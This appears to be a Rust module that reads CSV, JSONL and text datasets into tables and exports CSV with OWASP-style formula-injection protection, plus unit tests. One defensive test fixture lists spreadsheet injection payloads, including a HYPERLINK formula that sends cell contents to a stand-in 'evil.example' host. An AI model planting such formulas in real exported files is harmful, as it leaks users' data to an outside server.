//! Datasets for the workspace: reading CSV, JSONL and TXT files into a table, and writing
//! predictions back out as CSV or JSONL. CSV goes through the `csv` crate (RFC 4180: quoted
//! fields with commas, quotes and newlines; CRLF); a UTF-8 byte-order mark is dropped.

use serde_json::Value;

/// A table of strings: column names, and rows with one cell per column.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Table {
    pub columns: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Jsonl,
    Txt,
}

impl Format {
    /// From a file name's extension (`.csv`, `.tsv` is not supported, `.jsonl`/`.ndjson`, `.txt`).
    pub fn from_name(name: &str) -> Option<Self> {
        let ext = name.rsplit_once('.')?.1.to_ascii_lowercase();
        match ext.as_str() {
            "csv" => Some(Format::Csv),
            "jsonl" | "ndjson" | "json" => Some(Format::Jsonl),
            "txt" | "text" => Some(Format::Txt),
            _ => None,
        }
    }
}

/// Reads `bytes` (UTF-8, BOM allowed) in `format`. Errors name the line.
pub fn parse(bytes: &[u8], format: Format) -> Result<Table, String> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let text = std::str::from_utf8(bytes)
        .map_err(|e| format!("the file is not UTF-8 text (at byte {})", e.valid_up_to()))?;
    match format {
        Format::Csv => parse_csv(text),
        Format::Jsonl => parse_jsonl(text),
        Format::Txt => Ok(Table {
            columns: vec!["text".into()],
            rows: text
                .lines()
                .filter(|l| !l.trim().is_empty())
                .map(|l| vec![l.to_owned()])
                .collect(),
        }),
    }
}

fn parse_csv(text: &str) -> Result<Table, String> {
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(text.as_bytes());
    let columns: Vec<String> = reader
        .headers()
        .map_err(|e| format!("the CSV header could not be read: {e}"))?
        .iter()
        .enumerate()
        .map(|(i, h)| {
            if h.trim().is_empty() {
                format!("column {}", i + 1)
            } else {
                h.trim().to_owned()
            }
        })
        .collect();
    if columns.is_empty() {
        return Err("the CSV file is empty".into());
    }
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record.map_err(|e| match e.position() {
            Some(p) => format!("CSV line {}: {e}", p.line()),
            None => format!("CSV: {e}"),
        })?;
        if record.iter().all(|c| c.is_empty()) && record.len() <= 1 {
            continue; // a blank line
        }
        if record.len() > columns.len() {
            let line = record.position().map_or(0, |p| p.line());
            return Err(format!(
                "CSV line {line} has {} cells, the header has {}",
                record.len(),
                columns.len()
            ));
        }
        let mut row: Vec<String> = record.iter().map(str::to_owned).collect();
        row.resize(columns.len(), String::new());
        rows.push(row);
    }
    Ok(Table { columns, rows })
}

/// A JSON line: an object with its keys in file order (serde_json's map sorts them), or a
/// bare string.
enum Line {
    Object(Vec<(String, Value)>),
    Text(String),
    Other,
}

impl<'de> serde::Deserialize<'de> for Line {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> serde::de::Visitor<'de> for V {
            type Value = Line;
            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                f.write_str("an object or a string")
            }
            fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<Line, A::Error> {
                let mut pairs = Vec::new();
                while let Some((k, v)) = map.next_entry::<String, Value>()? {
                    pairs.push((k, v));
                }
                Ok(Line::Object(pairs))
            }
            fn visit_str<E>(self, s: &str) -> Result<Line, E> {
                Ok(Line::Text(s.to_owned()))
            }
            fn visit_seq<A: serde::de::SeqAccess<'de>>(self, mut seq: A) -> Result<Line, A::Error> {
                while seq.next_element::<serde::de::IgnoredAny>()?.is_some() {}
                Ok(Line::Other)
            }
            fn visit_bool<E>(self, _: bool) -> Result<Line, E> {
                Ok(Line::Other)
            }
            fn visit_i64<E>(self, _: i64) -> Result<Line, E> {
                Ok(Line::Other)
            }
            fn visit_u64<E>(self, _: u64) -> Result<Line, E> {
                Ok(Line::Other)
            }
            fn visit_f64<E>(self, _: f64) -> Result<Line, E> {
                Ok(Line::Other)
            }
            fn visit_unit<E>(self) -> Result<Line, E> {
                Ok(Line::Other)
            }
        }
        d.deserialize_any(V)
    }
}

fn parse_jsonl(text: &str) -> Result<Table, String> {
    let mut columns: Vec<String> = Vec::new();
    let mut objects: Vec<Vec<(String, Value)>> = Vec::new();
    for (n, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let parsed: Line =
            serde_json::from_str(line).map_err(|e| format!("JSONL line {}: {e}", n + 1))?;
        let pairs = match parsed {
            Line::Object(pairs) => pairs,
            Line::Text(s) => vec![("text".to_owned(), Value::String(s))],
            Line::Other => {
                return Err(format!(
                    "JSONL line {}: expected an object or a string",
                    n + 1
                ))
            }
        };
        for (key, _) in &pairs {
            if !columns.contains(key) {
                columns.push(key.clone());
            }
        }
        objects.push(pairs);
    }
    let rows = objects
        .iter()
        .map(|pairs| {
            columns
                .iter()
                .map(|c| cell_text(pairs.iter().rev().find(|(k, _)| k == c).map(|(_, v)| v)))
                .collect()
        })
        .collect();
    Ok(Table { columns, rows })
}

/// A JSON value as a cell: strings as they are, other values as JSON, missing as empty.
fn cell_text(v: Option<&Value>) -> String {
    match v {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// Writes a table as CSV for a spreadsheet (`\n` line ends), neutralising formula injection as
/// OWASP's CSV-injection guidance recommends: every cell is quoted, and every cell, header
/// included, that a spreadsheet would run as a formula gets a leading `'` ([`spreadsheet_safe`]).
/// Input columns and model output alike: a dataset or a prompt-injected model can carry
/// `=HYPERLINK(…)`. Only CSV is changed; JSONL and the page's table keep the text as it is.
pub fn to_csv(table: &Table) -> String {
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    let safe = |cells: &[String]| -> Vec<String> {
        cells
            .iter()
            .map(|c| spreadsheet_safe(c).into_owned())
            .collect()
    };
    writer
        .write_record(safe(&table.columns))
        .expect("writing to memory");
    for row in &table.rows {
        writer.write_record(safe(row)).expect("writing to memory");
    }
    String::from_utf8(writer.into_inner().expect("flush to memory")).expect("input was UTF-8")
}

/// `cell` with a `'` in front when it starts with what Excel, LibreOffice or Google Sheets read
/// as a formula (`=`, `+`, `-`, `@`, tab, carriage return: OWASP's list), so it is shown as text.
/// A negative number such as `-3` becomes `'-3` too: the price of never running a formula.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// CSV exports and formula injection (issue 11, item 10). A module of its own, beside the code
/// it tests.
#[cfg(test)]
mod formula_injection {
    use super::*;

    #[test]
    fn every_cell_that_starts_a_formula_is_prefixed_and_quoted() {
        let evil = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ];
        let t = Table {
            columns: vec!["=text".into(), "labels".into()],
            rows: evil
                .iter()
                .map(|e| vec![(*e).to_owned(), (*e).to_owned()])
                .collect(),
        };
        let out = to_csv(&t);
        assert!(out.starts_with("\"'=text\",\"labels\"\n"), "{out}");
        assert!(
            out.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
            "{out}"
        );
        let back = parse(out.as_bytes(), Format::Csv).unwrap();
        assert_eq!(back.columns, vec!["'=text", "labels"]);
        for (row, e) in back.rows.iter().zip(evil) {
            assert_eq!(row, &vec![format!("'{e}"), format!("'{e}")]);
        }
    }

    #[test]
    fn other_cells_are_kept_as_they_are_only_quoted() {
        let t = Table {
            columns: vec!["text".into(), "labels".into()],
            rows: vec![
                vec!["a=b".into(), "".into()],
                vec![" =1".into(), "positive; negative".into()],
                vec!["'quoted".into(), "x-y".into()],
            ],
        };
        let out = to_csv(&t);
        assert_eq!(
            out,
            "\"text\",\"labels\"\n\"a=b\",\"\"\n\" =1\",\"positive; negative\"\n\"'quoted\",\"x-y\"\n"
        );
        assert_eq!(parse(out.as_bytes(), Format::Csv).unwrap(), t);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv(s: &str) -> Table {
        parse(s.as_bytes(), Format::Csv).unwrap()
    }

    #[test]
    fn quoted_newlines_commas_and_quotes() {
        let t = csv("id,text\n1,\"hello, \"\"world\"\"\nsecond line\"\n2,plain\n");
        assert_eq!(t.columns, vec!["id", "text"]);
        assert_eq!(
            t.rows,
            vec![
                vec!["1", "hello, \"world\"\nsecond line"],
                vec!["2", "plain"]
            ]
        );
    }

    #[test]
    fn bom_crlf_and_empty_cells() {
        let t = parse(
            b"\xEF\xBB\xBFtext,gold,extra\r\na,,\r\n,b,c\r\n\r\nd,e\r\n",
            Format::Csv,
        )
        .unwrap();
        assert_eq!(
            t.columns,
            vec!["text", "gold", "extra"],
            "the BOM is not part of the first column name"
        );
        assert_eq!(
            t.rows,
            vec![vec!["a", "", ""], vec!["", "b", "c"], vec!["d", "e", ""]]
        );
    }

    #[test]
    fn errors_name_the_line() {
        let e = parse("a,b\n1,2,3\n".as_bytes(), Format::Csv).unwrap_err();
        assert!(e.contains("line 2"), "{e}");
        assert!(parse(b"\xff\xfe", Format::Csv)
            .unwrap_err()
            .contains("UTF-8"));
        let e = parse("{\"a\":1}\nnot json\n".as_bytes(), Format::Jsonl).unwrap_err();
        assert!(e.starts_with("JSONL line 2"), "{e}");
    }

    #[test]
    fn jsonl_columns_are_the_union_of_keys() {
        let t = parse(
            "{\"text\":\"hi\",\"n\":1}\n\n{\"label\":\"x\",\"text\":\"yo\"}\n\"bare\"\n".as_bytes(),
            Format::Jsonl,
        )
        .unwrap();
        assert_eq!(t.columns, vec!["text", "n", "label"]);
        assert_eq!(
            t.rows,
            vec![
                vec!["hi", "1", ""],
                vec!["yo", "", "x"],
                vec!["bare", "", ""]
            ]
        );
    }

    #[test]
    fn txt_is_one_row_per_line() {
        let t = parse("one\r\n\ntwo\n".as_bytes(), Format::Txt).unwrap();
        assert_eq!(t.rows, vec![vec!["one"], vec!["two"]]);
    }

    #[test]
    fn csv_round_trips() {
        let t = Table {
            columns: vec!["text".into(), "labels".into()],
            rows: vec![
                vec!["a, \"b\"\nc".into(), "x;y".into()],
                vec!["".into(), "z".into()],
            ],
        };
        assert_eq!(csv(&to_csv(&t)), t);
    }

    #[test]
    fn formats_from_names() {
        assert_eq!(Format::from_name("data.CSV"), Some(Format::Csv));
        assert_eq!(Format::from_name("x.jsonl"), Some(Format::Jsonl));
        assert_eq!(Format::from_name("notes.txt"), Some(Format::Txt));
        assert_eq!(Format::from_name("x.xlsx"), None);
    }
}
